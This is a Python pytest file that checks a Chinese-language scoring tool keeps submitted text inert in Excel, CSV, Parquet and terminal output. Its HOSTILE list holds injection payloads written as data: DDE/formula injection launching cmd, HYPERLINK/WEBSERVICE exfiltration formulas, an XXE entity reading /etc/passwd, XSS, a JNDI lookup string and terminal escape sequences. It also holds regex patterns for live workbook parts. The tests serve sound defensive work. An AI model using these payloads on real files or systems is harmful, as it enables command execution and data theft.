"""Text from submissions is text in whatever is written: no formula, no link, no control of a terminal, and it comes back unaltered."""

from __future__ import annotations

import csv
import html
import json
import re
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from scorekit.cli import main
from scorekit.domain.csv_cells import bare
from scorekit.domain.xml_text import cell_text
from scorekit.loading.results import load_results

HOSTILE = (
    "=1+1",
    "=SUM(A1:A9)",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "-2+3",
    "+1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(A1)",
    "﹦1+1",
    "'=1+1",
    "''=1+1",
    "'甲",
    '"=1+1"',
    '=HYPERLINK("http://example.org/?"&A1,"点我")',
    '=WEBSERVICE("http://example.org/"&A1)',
    '=IMPORTXML("http://example.org","//a")',
    '=DDE("cmd";"/C calc";"x")',
    "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!\"\"",
    "{=1+1}",
    "%0A=1+1",
    "=1+1\x00",
    "http://example.org/a",
    "https://example.org/甲",
    "mailto:a@example.org",
    "ftp://example.org/a",
    "file:///etc/passwd",
    "internal:Sheet1!A1",
    "external:other.xlsx",
    "\\\\server\\share",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "</t></si><si><t>甲",
    "<r><t>甲</t></r>",
    '<r/></is></c><c r="Z9"><f>1+1</f><v>2</v></c><c t="inlineStr"><is><r><t>甲</t></r>',
    "<r><t>甲</r>",
    "<![CDATA[甲]]>",
    "<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]>&b;",
    "&lt;&amp;&#61;1",
    "[点我](http://example.org)",
    "![图](javascript:alert(1))",
    "\x1b[31m红\x1b[0m",
    "\x1b]0;标题\x07",
    "\x1b]8;;http://example.org\x1b\\点我\x1b]8;;\x1b\\",
    "\x9b31m红",
    "\x07\x08\x0b\x0c铃",
    "甲\x7f乙",
    "\u202e倒写",
    "甲\u2066乙\u2069",
    "\u2028行\u2029段",
    "_x000D_",
    "_x0041__x005F_",
    "_x003D_1+1",
    "甲\ufffe乙\uffff",
    "甲,乙;丙\t丁",
    '甲"乙""丙',
    "甲\r\n乙,=1+1",
    "甲\n=1+1",
    "',=1+1,'",
    "1e5",
    "007",
    "TRUE",
    "#REF!",
    "${jndi:ldap://example.org/a}",
    "{{7*7}}",
    "%s%n{unit}{0}",
    "../../nowhere/passwd",
    "NUL",
    "😀=1+1",
    "e\u0301=1",
    "=" * 300,
    "甲" * 40_000,
)
"""The last is longer than a cell can be."""
SAID = frozenset("\n")
FORMULA = tuple("=+-@\t\r\n＝＋－＠")
NUMBER = re.compile(r"[+-]?[0-9]+(\.[0-9]+)?%?")

RUBRIC: dict[str, Any] = {
    "title": "文字照写标准",
    "type": "object",
    "required": ["unit", "category"],
    "properties": {
        "unit": {"type": "string", "title": "单位名称"},
        "category": {"enum": ["企业", "机关"], "title": "类别"},
        "note": {"type": "string", "title": "说明", "x-criterion": {"no": "1", "points": 5, "rule": {"flag": {"of": "note != ''"}}}},
        "rate": {
            "type": "number",
            "title": "完成率",
            "x-unit": "percent",
            "x-criterion": {"no": "2", "points": 10, "rule": {"pro_rata": {}}, "invalid": "as-missing", "missing": "zero"},
        },
        "honours": {
            "type": "array",
            "title": "荣誉",
            "items": {
                "type": "object",
                "properties": {"name": {"type": "string", "title": "奖项"}, "level": {"enum": ["市级", "区级"], "title": "级别"}},
            },
            "x-criterion": {"no": "3", "kind": "bonus", "points": 3, "rule": {"mark": {"of": "count(honours, level == '市级')"}}},
        },
    },
    "x-rubric": {"language": 1, "id": "plain-text", "version": "1", "unit": "unit", "category": "category"},
}
KEYS = [f"{text}·{i}" for i, text in enumerate(HOSTILE)]
"""Names of units: each of its own, whatever is folded."""


def unit(i: int, text: str) -> dict[str, Any]:
    honours = [{"name": text, "level": text}, {"name": "甲", "level": "市级"}]
    found: dict[str, Any] = {"unit": KEYS[i], "category": "企业", "note": text, "rate": [0.9, text, None][i % 3], "honours": honours}
    if i % 5 == 0:
        found["category"] = text
    return found | {text: "1", "没有的栏目" + text: text}


def submissions(folder: Path) -> Path:
    """All strings as units of an NDJSON file, of a workbook and of a CSV file with names of files, sheets and columns after them."""
    folder.mkdir()
    lines = [json.dumps(unit(i, text), ensure_ascii=False) for i, text in enumerate(HOSTILE)]
    (folder / "=1+1 材料.ndjson").write_text("\n".join(lines), encoding="utf-8")
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.title = "=1+1"
    heads = ["单位名称", "类别", "说明", "完成率", "=SUM(A1)", "http://example.org", "@列<b>"]
    for column, head in enumerate(heads, 1):
        sheet.cell(1, column, head).data_type = "s"
    texts = [
        t
        for t in HOSTILE
        if not openpyxl.cell.cell.ILLEGAL_CHARACTERS_RE.search(t) and not set("\ufffe\uffff") & set(t) and len(t) < 30_000
    ]
    for row, text in enumerate(texts, 2):
        for column, value in enumerate([f"{text}·簿{row}", "机关", text, text, text, text, text], 1):
            cell = sheet.cell(row, column, value)
            cell.data_type = "s"
    book.save(folder / "@SUM(A1) [31m.xlsx")
    with (folder / "-2+3&x='<b>.csv").open("w", encoding="utf-8-sig", newline="") as file:
        table = csv.writer(file)
        table.writerow(["单位名称", "类别", "说明", "完成率", "=1+1", "<script>"])
        table.writerows([f"{t}·表{i}", "机关", t, t, t, t] for i, t in enumerate(HOSTILE) if "\x00" not in t and len(t) < 30_000)
    return folder


@pytest.fixture(scope="module")
def given(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    place = tmp_path_factory.mktemp("live")
    (place / "rubric.json").write_text(json.dumps(RUBRIC, ensure_ascii=False), encoding="utf-8")
    notice = {
        "rubric": "plain-text",
        "title": "=1+1 通知",
        "categories": {"企业": {"seats": 3}},
        "award": {"title": "=1+1 称号"},
        "assess_only": {"units": [KEYS[2], "=没有的单位()"]},
        "wording": {"result": "推荐名单", "basis": '=HYPERLINK("http://example.org")'},
        "period": {"start": "2026-01-01", "end": "2026-12-31"},
    }
    (place / "notice.json").write_text(json.dumps(notice, ensure_ascii=False), encoding="utf-8")
    return {"place": place, "in": submissions(place / "in"), "rubric": place / "rubric.json", "notice": place / "notice.json"}


def run(capsys: pytest.CaptureFixture[str], given: dict[str, Path], command: str, out: Path, *more: str) -> str:
    """What a command says on both streams."""
    words = [command, str(given["in"]), "--rubric", str(given["rubric"]), "--notice", str(given["notice"]), "--out", str(out), *more]
    status = main(["--lang", "zh", *words])
    said = "".join(capsys.readouterr())
    assert status == 0, said
    return said


def steers(said: str) -> set[str]:
    """What in a text would steer a terminal or turn its letters around."""
    return {c for c in said if not c.isprintable()} - SAID


def parts(path: Path) -> Iterator[tuple[str, str]]:
    with zipfile.ZipFile(path) as package:
        for name in package.namelist():
            yield name, package.read(name).decode("utf-8")


def inert(path: Path) -> list[str]:
    """What in a workbook is live, by part: nothing."""
    live = []
    for name, text in parts(path):
        signs = r"<f[ >/]|<hyperlink|<oleObject|<ddeLink|<externalLink|TargetMode=\"External\"|vbaProject|<customUI|<control |javascript:\"|<webPublish"
        live += [(name, found) for found in re.findall(signs, text)] if name != "xl/sharedStrings.xml" else []
        live += [(name, "control") for _ in re.findall(r"[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]", text)]
        if re.search(r"externalLink|vbaProject|embeddings|activeX|connections", name):
            live.append((name, "part"))
    return [f"{n}: {f}" for n, f in live]


def shared(path: Path) -> set[str]:
    """The strings of a workbook as they were given to it: escapes undone here, not by the library that wrote them."""
    found: set[str] = set()
    for name, text in parts(path):
        if name.startswith("xl/worksheets") or name == "xl/sharedStrings.xml":
            found |= {html.unescape(t) for t in re.findall(r"<t(?: [^>]*)?>([^<]*)</t>", text)}
    return {re.sub(r"_x([0-9A-Fa-f]{4})_", lambda m: chr(int(m[1], 16)), t.replace("_x000D_\n", "\r\n")) for t in found}


def in_cell(text: str) -> str:
    """A text as the cell of a workbook can hold it."""
    return cell_text(text[:32_000]).replace("\r\n", "\n")


def test_nothing_in_the_workbook_is_live_and_every_text_stands_in_it(
    given: dict[str, Path], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    run(capsys, given, "evaluate", tmp_path / "out")
    path = tmp_path / "out/ranking.xlsx"
    assert inert(path) == []
    book = openpyxl.load_workbook(path)
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert [c.coordinate for c in cells if c.data_type == "f" or c.hyperlink is not None] == []
    strings = {t.replace("\r\n", "\n") for t in shared(path)}
    assert [k for k in KEYS if in_cell(k) not in strings] == []
    assert any("HYPERLINK" in s for s in strings)


def test_nothing_in_a_public_list_is_live(given: dict[str, Path], tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    plain = {**given, "notice": given["place"] / "plain.json"}
    notice = json.loads(given["notice"].read_text(encoding="utf-8")) | {"wording": {"result": "考核结果", "basis": "=1+1"}}
    plain["notice"].write_text(json.dumps(notice, ensure_ascii=False), encoding="utf-8")
    run(capsys, plain, "evaluate", tmp_path / "out")
    assert main(["publish", str(tmp_path / "out"), "-o", str(tmp_path / "public"), "--with", "total", "--with", "status"]) == 0
    assert steers("".join(capsys.readouterr())) == set()
    path = tmp_path / "public/公示名单.xlsx"
    assert inert(path) == []
    strings = {t.replace("\r\n", "\n") for t in shared(path)}
    with (tmp_path / "public/public.csv").open(encoding="utf-8-sig", newline="") as file:
        cells = list(csv.reader(file))
    assert [c[:40] for row in cells for c in row if c.startswith(FORMULA) and not NUMBER.fullmatch(c)] == []
    assert len(cells) > 60
    assert [
        c[0]
        for c in cells[1:]
        if in_cell(bare(c[cells[0].index("unit")])).replace("\r", "\n") not in {s.replace("\r", "\n") for s in strings}
    ] == []


@pytest.mark.parametrize("form", ["csv", "parquet"])
def test_every_text_comes_back_as_it_was(given: dict[str, Path], form: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    said = run(capsys, given, "evaluate", tmp_path / "out", "--format", form)
    assert steers(said) == set()
    found = load_results(tmp_path / "out")
    assert set(KEYS) <= {row["unit"] for row in found.standings}
    kept = {k: t for i, (k, t) in enumerate(zip(KEYS, HOSTILE, strict=True)) if i % 5}  # the others have no category, hence no standard
    for key, text in list(kept.items())[:-1:4]:
        told = {r["field"]: r["value"] for r in found.rows("inputs", key)}
        assert (told["unit"], told["note"], told["honours[0].name"]) == (key, text, text)
    run_json = json.loads((tmp_path / "out/run.json").read_text(encoding="utf-8"))
    assert "=1+1 材料.ndjson" in run_json["inputs"]


def test_no_cell_of_a_table_begins_as_a_formula(given: dict[str, Path], tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    run(capsys, given, "evaluate", tmp_path / "out")
    said = run(capsys, given, "validate", tmp_path / "checked")
    assert steers(said) == set()
    for path in [*(tmp_path / "out").glob("*.csv"), *(tmp_path / "checked").glob("*.csv")]:
        csv.field_size_limit(10**6)
        with path.open(encoding="utf-8-sig", newline="") as file:
            live = [c[:40] for row in csv.reader(file) for c in row if c.startswith(FORMULA) and not NUMBER.fullmatch(c)]
        assert (path.name, live) == (path.name, [])


def test_explaining_a_unit_steers_no_terminal_and_forges_nothing(
    given: dict[str, Path], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    run(capsys, given, "evaluate", tmp_path / "out")
    for i, key in enumerate(KEYS):
        if len(key) > 1000 or "\x00" in key:
            continue
        status = main(["explain", str(tmp_path / "out"), "--", key])
        said = "".join(capsys.readouterr())
        assert (status, steers(said)) == (0, set()), (i, said)


def test_a_fault_that_ends_a_run_steers_no_terminal(given: dict[str, Path], tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    for text in HOSTILE:
        if "\x00" in text or len(text) > 1000:
            continue
        for words in (
            ["explain", str(tmp_path), text],
            ["evaluate", text],
            ["evaluate", str(given["in"]), "--rubric", text],
            [text],
            ["--" + text],
        ):
            status = main([*words])
            said = "".join(capsys.readouterr())
            assert (status, steers(said), "Traceback" in said) == (2, set(), False), words


def test_there_are_enough_strings() -> None:
    assert len(set(HOSTILE)) == len(HOSTILE) >= 60
